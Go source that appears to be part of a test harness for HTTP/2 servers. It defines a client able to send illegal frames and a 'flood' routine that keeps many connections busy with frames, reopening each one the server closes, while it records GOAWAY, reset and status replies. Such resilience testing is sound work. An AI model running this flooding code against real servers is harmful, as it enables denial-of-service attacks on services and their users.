package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is an HTTP/2 client that may send any frame.
type h2 struct {
	*http2.Framer
	conn   net.Conn
	out    *bufio.Writer
	enc    *hpack.Encoder
	block  bytes.Buffer
	next   uint32        // the next stream's id
	closed chan struct{} // when the peer has closed
	// What came.
	goaways, resets, heads atomic.Int64
	lock                   sync.Mutex
	statuses               map[uint32]string
	code                   http2.ErrCode // of GOAWAY
}

// openH2 connects with these settings, and reads what comes, or nothing at all.
func openH2(reads bool, settings ...http2.Setting) (*h2, error) {
	conn, err := dial(attacker, clear)
	if err != nil {
		return nil, err
	}
	c := &h2{conn: conn, out: bufio.NewWriterSize(conn, 32<<10), next: 1, closed: make(chan struct{}), statuses: map[uint32]string{}}
	c.enc = hpack.NewEncoder(&c.block)
	c.Framer = http2.NewFramer(c.out, bufio.NewReader(conn))
	c.AllowIllegalWrites = true
	c.SetMaxReadFrameSize(1 << 24)
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	io.WriteString(c.out, http2.ClientPreface)
	if err := c.WriteSettings(settings...); err != nil {
		return nil, err
	}
	if err := c.out.Flush(); err != nil {
		return nil, err
	}
	if reads {
		go c.read()
	}
	return c, nil
}

func (c *h2) read() {
	defer close(c.closed)
	decoder := hpack.NewDecoder(4096, nil)
	for {
		frame, err := c.ReadFrame()
		if err != nil {
			return
		}
		switch f := frame.(type) {
		case *http2.GoAwayFrame:
			c.lock.Lock()
			c.code = f.ErrCode
			c.lock.Unlock()
			c.goaways.Add(1)
		case *http2.RSTStreamFrame:
			c.resets.Add(1)
			c.note(f.StreamID, f.ErrCode.String())
		case *http2.HeadersFrame:
			c.heads.Add(1)
			fields, err := decoder.DecodeFull(f.HeaderBlockFragment())
			if err == nil && len(fields) > 0 && fields[0].Name == ":status" {
				c.note(f.StreamID, fields[0].Value)
			}
		}
	}
}

// note keeps the first that is said of a stream.
func (c *h2) note(stream uint32, what string) {
	c.lock.Lock()
	defer c.lock.Unlock()
	if _, known := c.statuses[stream]; !known {
		c.statuses[stream] = what
	}
}

// outcome is the status or the error code of a stream, once it has one.
func (c *h2) outcome(stream uint32) string {
	for end := time.Now().Add(5 * time.Second); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
		c.lock.Lock()
		known := c.statuses[stream]
		c.lock.Unlock()
		if known != "" {
			return known
		}
		select {
		case <-c.closed:
			return fmt.Sprintf("connection closed (%v)", c.code)
		default:
		}
	}
	return "nothing"
}

// request opens a stream. fields are pairs; without any it is a GET of /public/.
func (c *h2) request(end bool, fields ...string) (uint32, error) {
	stream := c.next
	c.next += 2
	c.block.Reset()
	if len(fields) == 0 {
		fields = get("/public/")
	}
	for i := 0; i < len(fields); i += 2 {
		c.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return stream, c.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: c.block.Bytes(), EndStream: end, EndHeaders: true})
}

func get(path string) []string {
	return []string{":method", "GET", ":scheme", "http", ":authority", "attack", ":path", path}
}

func post(path string) []string {
	return []string{":method", "POST", ":scheme", "http", ":authority", "attack", ":path", path}
}

// flood sends frames on n connections until the context ends; a connection that is closed is opened again.
func flood(ctx context.Context, n int, reads bool, begin func(*h2) error, frame func(*h2) error) (frames, closed int64) {
	var sent, ends atomic.Int64
	var group sync.WaitGroup
	for range n {
		group.Go(func() {
			giveWay()
			for ctx.Err() == nil {
				c, err := openH2(reads)
				if err != nil {
					time.Sleep(20 * time.Millisecond)
					continue
				}
				stop := context.AfterFunc(ctx, func() { c.conn.Close() })
				if begin != nil {
					err = begin(c)
				}
				for err == nil && ctx.Err() == nil {
					for i := 0; i < 50 && err == nil; i++ {
						err = frame(c)
						sent.Add(1)
					}
					if err == nil {
						err = c.out.Flush()
					}
					if c.goaways.Load() > 0 {
						break
					}
				}
				if ctx.Err() == nil {
					ends.Add(1)
				}
				stop()
				c.conn.Close()
				time.Sleep(10 * time.Millisecond)
			}
		})
	}
	group.Wait()
	return sent.Load(), ends.Load()
}
